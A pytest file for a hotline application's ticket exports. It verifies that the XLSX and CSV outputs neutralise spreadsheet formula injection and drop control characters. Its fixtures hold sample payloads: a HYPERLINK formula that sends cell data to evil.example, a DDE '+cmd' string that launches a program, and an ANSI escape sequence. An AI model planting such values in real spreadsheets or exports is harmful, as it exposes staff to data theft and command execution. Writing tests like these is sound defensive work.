"""Exports are opened in Excel/WPS by staff: a citizen's text never becomes a formula there, and no
character in it can make an export fail for everybody."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime

import pytest
from fastapi.testclient import TestClient
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from hotline.spreadsheets import csv_cell
from tests import factories
from tests.conftest import principal_token
from tests.factories import Actors

FORMULA = '=HYPERLINK("http://evil.example/?x="&A2,"点击")'
POISON = "路灯坏了\x1b[31m\x07请修"


@pytest.fixture
def poisoned(db: Session, actors: Actors, now: datetime) -> None:
    factories.make_ticket(db, actors, now=now, title=FORMULA, content=POISON)
    factories.make_ticket(db, actors, now=now, title="+cmd|' /C calc'!A0", content="@SUM(1+1)*cmd")
    db.commit()


def test_xlsx_export_writes_formulas_as_text_and_survives_control_characters(
    client: TestClient, db: Session, actors: Actors, poisoned: None
) -> None:
    for who in (actors.admin, actors.dispatcher, actors.leader):
        r = client.get("/api/v1/export/tickets.xlsx", headers=principal_token(db, who))
        assert r.status_code == 200, r.text
    sheet = zipfile.ZipFile(io.BytesIO(r.content)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell is a formula
    ws = load_workbook(io.BytesIO(r.content)).active
    assert ws is not None
    cells = {c.value: c.data_type for row in ws.iter_rows() for c in row if isinstance(c.value, str)}
    assert cells[FORMULA] == "s" and cells["+cmd|' /C calc'!A0"] == "s"
    assert "路灯坏了[31m请修" in cells  # ESC and BEL dropped, the text kept


def test_csv_export_prefixes_cells_that_a_spreadsheet_would_run(
    client: TestClient, db: Session, actors: Actors, poisoned: None
) -> None:
    r = client.get("/api/v1/export/tickets.csv", headers=principal_token(db, actors.admin))
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.text.lstrip("\ufeff"))))
    titles = {row[8] for row in rows[1:]}
    assert "'" + FORMULA in titles and "'+cmd|' /C calc'!A0" in titles
    assert not [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")]


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1+2", "@A1", "\t=1", "\r=1"])
def test_every_formula_start_is_neutralised(value: str) -> None:
    assert str(csv_cell(value)).startswith("'")
